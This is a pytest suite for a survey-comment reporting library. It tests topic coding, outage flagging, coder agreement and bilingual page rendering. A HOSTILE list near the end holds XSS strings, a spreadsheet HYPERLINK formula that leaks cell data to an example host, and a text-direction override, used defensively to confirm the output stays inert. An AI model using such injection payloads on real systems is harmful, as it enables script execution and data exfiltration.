"""What the page says of a company's comments: the demo's planted truths, and hostile text."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from html import unescape
from typing import TYPE_CHECKING

import pandas as pd
import pytest

import cxreport as cx
from cxreport.errors import CxError
from cxreport.inputs.source import run
from cxreport.show.render import render
from cxreport.topics.voice import Voice, company_comments, company_voice

if TYPE_CHECKING:
    from pathlib import Path

    from cxreport.inputs.survey import Survey
    from cxreport.show.blocks import Block

BLOCKS = (
    "brief", "summary", "word_chart", "scores", "months", "quotations", "sources", "reviews",
    "reply_table",
    "coder_agreement", "proposals", "method",
)  # fmt: skip


def said(block: Block, language: str = "en") -> str:
    text = re.sub(r"<svg.*?</svg>", " ", str(render(block, language, prefix="b")), flags=re.DOTALL)
    plain = unescape(re.sub(r"<[^>]*>", " ", text))
    return " ".join(re.sub(r"[\u2066-\u2069]", "", plain).split())


@pytest.fixture(scope="module")
def survey() -> Survey:
    return cx.open_survey("demo", period="2026-10", families=4)


@pytest.fixture(scope="module")
def voice(survey: Survey) -> Voice:
    return company_voice(survey, periods=24)


def test_an_answer_is_not_read_twice(survey: Survey) -> None:
    comments = company_comments(survey, periods=24)
    assert comments["response_id"].dropna().is_unique
    counts = comments["source"].value_counts()
    # the 24 closed months; 3,000, 1,600, 600 and 400 with the open one
    assert counts.to_dict() == {"survey": 2974, "ticket": 1580, "app_review": 597, "letter": 393}
    nine = comments[comments["group"] == "promoter"]
    assert (nine["points"] == 100).all()


def test_comments_of_a_part_of_the_answers_are_those_of_its_answers(survey: Survey) -> None:
    part = cx.open_survey("demo", period="2026-10", filters={"channel": ["phone"]})
    comments = company_comments(part)
    assert set(comments["source"]) == {"survey"}
    assert 0 < len(comments) < 400
    # as they stand in the table of comments, with what people labelled them with
    every = company_comments(survey)
    phone = set(run(part.responses)["response_id"])
    own = every[every["response_id"].isin(phone)]
    assert comments["text_id"].tolist() == own["text_id"].tolist()
    assert comments["topic"].notna().all()


def test_the_outage_is_flagged_in_its_month() -> None:
    then = cx.open_survey("demo", period="2026-03", families=4)
    history = company_voice(then, periods=12).history
    marked = history[history["signal"] != ""]
    assert marked[["topic", "period", "direction"]].to_numpy().tolist() == [
        ["phone_waiting", "2026-03", "rise"]
    ]
    assert marked["mentions"].item() == 20  # of 115 comments of the month, counted by hand


def test_an_outage_of_months_ago_is_in_the_months_and_not_in_brief(
    voice: Voice, survey: Survey
) -> None:
    for language, rise, none in (
        ("en", "More than usual: waiting on the phone, March 2026. 20 of 115",
         "In October 2026 no topic is to be seen that is spoken of more than usual."),
        ("it", "Più del solito: attesa al telefono, marzo 2026",
         "In ottobre 2026 non si vede nessun tema di cui si parli più del solito."),
    ):  # fmt: skip
        assert rise in said(cx.voice.months(voice, survey), language)
        for block in (cx.voice.brief, cx.voice.summary):
            page = said(block(voice, survey), language)
            assert rise.split(":")[0] not in page
            assert none in page
        assert none not in said(cx.voice.months(voice, survey), language)
    before = voice.history[voice.history["period"] != "2026-10"]
    then = replace(voice, history=before.replace({"period": {"2026-03": "2026-10"}}))
    assert "More than usual: waiting on the phone, October" in said(cx.voice.brief(then, survey))
    assert "more than usual" in said(cx.voice.scores(then, survey))
    assert "more than usual" not in said(cx.voice.scores(voice, survey))


def test_the_frame_sees_what_was_labelled(voice: Voice) -> None:
    rows = voice.agreement.set_index("topic")
    assert (rows["estimate"] > 0.95).all()
    assert rows.loc["all", "n"] == 10 * 3964


def test_reviews_stand_by_themselves(voice: Voice, survey: Survey) -> None:
    page = said(cx.voice.reviews(voice, survey))
    assert "App reviews: 597 with stars" in page
    assert "Nobody was asked to write these" in page
    assert "Fewer stars go with: waiting on the phone" in page


def test_one_coefficient_of_agreement_is_told(voice: Voice, survey: Survey) -> None:
    # one person labelled each comment: kappa of frame and person says what alpha says
    assert {"kappa", "kappa_low", "kappa_high"} <= set(voice.agreement)
    page = said(cx.voice.coder_agreement(voice, survey))
    assert "Alpha (interval)" in page
    assert "kappa" not in page.lower()


@pytest.mark.parametrize("language", ["en", "it"])
@pytest.mark.parametrize("name", BLOCKS)
def test_every_section_can_be_read(voice: Voice, survey: Survey, name: str, language: str) -> None:
    block = getattr(cx.voice, name)(voice, survey)
    json.dumps(block.payload())
    page = said(block, language)
    assert page
    assert not re.search(r"\bnan\b|[{}]", page)


@pytest.mark.parametrize("name", BLOCKS)
def test_a_company_without_comments_says_so(survey: Survey, name: str) -> None:
    page = said(getattr(cx.voice, name)(Voice(), survey))
    assert re.search(r"No |cannot be (said|compared)", page)


def test_nothing_to_be_seen_is_said_plainly(voice: Voice, survey: Survey) -> None:
    quiet = voice.topics.assign(signal=False)
    calm = voice.history.assign(signal="", direction="")
    words = voice.words.assign(signal=False)
    page = said(cx.voice.brief(replace(voice, topics=quiet, history=calm, words=words), survey))
    assert "No word or phrase is to be seen" in page
    assert "No topic is to be seen that goes with a lower score" in page
    assert "In these 24 periods no topic is to be seen that rises" in page
    assert "association, not cause" in page


@pytest.mark.parametrize(("first", "words"), [(99.0, "nearly sure"), (60.0, "is not sure")])
def test_the_topic_that_hurts_is_as_sure_as_its_rank(
    voice: Voice, survey: Survey, first: float, words: str
) -> None:
    hurt = voice.topics["topic"].isin(["delivery", "app"])
    topics = voice.topics.assign(
        signal=hurt, first=first, impact=[-1.0, -0.1, 0.2, -2.0, *[0.1] * 6],
        estimate=voice.topics["estimate"].mask(hurt, -20.0),
    )  # fmt: skip
    page = said(cx.voice.scores(replace(voice, topics=topics), survey))
    assert "The topic that takes most from the score: app" in page
    assert words in page
    assert "Lower scores go with these topics, too: delivery" in page


HOSTILE = [
    "<script>alert(1)</script> The parcel came late and nobody told me, again",
    '=HYPERLINK("https://example.com/?q="&A1) The parcel came late and nobody told me',
    "\u202eThe parcel came late and nobody told me in any way\u202c, which is not nice",
    "<img src=x onerror=alert(1)> The parcel came late and nobody told me at all",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_never_runs(voice: Voice, survey: Survey, text: str) -> None:
    quote = voice.quotes.head(1).assign(text=text)
    page = str(render(cx.voice.quotations(replace(voice, quotes=quote), survey), "en", prefix="b"))
    assert "parcel came late" in page
    assert not re.search(r"<script|<img|\u202e", page)


def test_hostile_words_are_no_words() -> None:
    texts = pd.Series(["<script>alert(1)</script> lento davvero oggi"] * 30)
    group = pd.Series(["detractor", "promoter"] * 15)
    assert set(cx.voice.keyness(texts, group)["word"]) <= {"lento", "oggi", "lento_oggi"}


def test_topics_of_few_people_are_not_shown(voice: Voice, survey: Survey) -> None:
    rare = voice.topics.assign(n=[4, *voice.topics["n"][1:]])
    page = said(cx.voice.scores(replace(voice, topics=rare), survey))
    assert "Delivery" not in page
    assert "Not all is shown here" in page


def test_a_source_without_a_coding_frame_has_proposals(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, survey: Survey
) -> None:
    monkeypatch.setattr("cxreport.topics.voice.frames.FILE", "none.toml")
    voice = company_voice(survey, periods=3)
    assert voice.topics.empty
    assert len(voice.proposals)
    assert "there is no coding frame" in said(cx.voice.scores(voice, survey))
    assert "decide nothing" in said(cx.voice.proposals(voice, survey))
    with pytest.raises(CxError, match="no coding frame"):
        cx.voice.read_coding_frame(tmp_path / "none.toml")


def test_marks_of_people_are_read_from_their_own_columns() -> None:
    label = {"en": "x", "it": "x"}
    frame = cx.voice.CodingFrame.model_validate(
        {"topics": {"late": {"label": label, "label_column": "Timeliness", "en": ["late"]},
                    "kind": {"label": label, "en": ["kind"]},
                    "rude": {"label": label, "en": ["rude"]}}}
    )  # fmt: skip
    comments = pd.DataFrame(
        {"topic": ["rude", None, "late"], "Timeliness": ["True", "False", None],
         "label_kind": [1, 0, 0]}
    )  # fmt: skip
    marks = cx.voice.human_labels(frame, comments)
    assert marks["late"].tolist()[:2] == [True, False]
    assert pd.isna(marks["late"].iloc[2])
    assert marks["kind"].tolist() == [True, False, False]
    assert marks["rude"].tolist()[::2] == [True, False]


def test_comments_that_were_read_for_the_frame_do_not_test_it(
    survey: Survey, voice: Voice, monkeypatch: pytest.MonkeyPatch
) -> None:
    comments = company_comments(survey, periods=24)
    read = comments["response_id"].dropna().head(40).tolist()
    frame = cx.voice.company_coding_frame(survey)
    assert frame is not None
    known = frame.model_copy(update={"read": type(frame.read)(respondents=tuple(read))})
    monkeypatch.setattr("cxreport.topics.voice.frames.company_coding_frame", lambda _: known)
    less = company_voice(survey, periods=24, proposed=0)
    assert less.read == 40
    whole = less.agreement.set_index("topic").loc["all"]
    assert whole["n"] == 10 * (3964 - 40)
    page = said(cx.voice.coder_agreement(less, survey))
    assert "The 40 labelled comments that were read" in page
    assert "left out" not in said(cx.voice.coder_agreement(voice, survey))
    few = replace(less, read=9)  # of fewer than ten people nothing is told
    assert "left out" not in said(cx.voice.coder_agreement(few, survey))


def test_the_topics_stand_beside_what_they_have_together(voice: Voice, survey: Survey) -> None:
    alphas = [0.4, 0.6, 0.83]
    rows = voice.agreement.set_index("topic").iloc[[0, 1, 2, -1]].reset_index()
    rows["estimate"] = [*alphas, 0.9]
    page = said(cx.voice.coder_agreement(replace(voice, agreement=rows), survey))
    assert "the 3 topics have 0.61 on average, from 0.40 to 0.83" in page


def test_a_topic_that_people_see_otherwise_is_named_where_it_hurts(
    voice: Voice, survey: Survey
) -> None:
    scored = voice.topics.assign(signal=voice.topics["estimate"] < 0)
    voice = replace(voice, topics=scored)
    name = scored.sort_values("impact")["topic"].iloc[0]
    weak = voice.agreement.assign(
        estimate=voice.agreement["estimate"].mask(voice.agreement["topic"] == name, 0.49)
    )
    label = voice.labels[name]["en"]
    for block in (cx.voice.brief, cx.voice.scores):
        page = said(block(replace(voice, agreement=weak), survey))
        assert f"the other way round: {label}." in page
        assert "with caution" not in said(block(voice, survey))


def test_no_more_periods_are_counted_than_there_are() -> None:
    early = cx.open_survey("demo", period="2024-12", families=4)
    assert company_voice(early, periods=24, proposed=0).periods == len(early.history) < 24


def test_a_language_of_a_few_comments_is_not_counted_out(voice: Voice, survey: Survey) -> None:
    spoken = pd.DataFrame({"language": ["en", "it", "other"], "comments": [80, 10, 9]})
    page = said(cx.voice.method(replace(voice, languages=spoken), survey))
    assert "in English: 80" in page.replace("In", "in")
    assert "in Italian: 10" in page.replace("In", "in")
    assert "another language" not in page
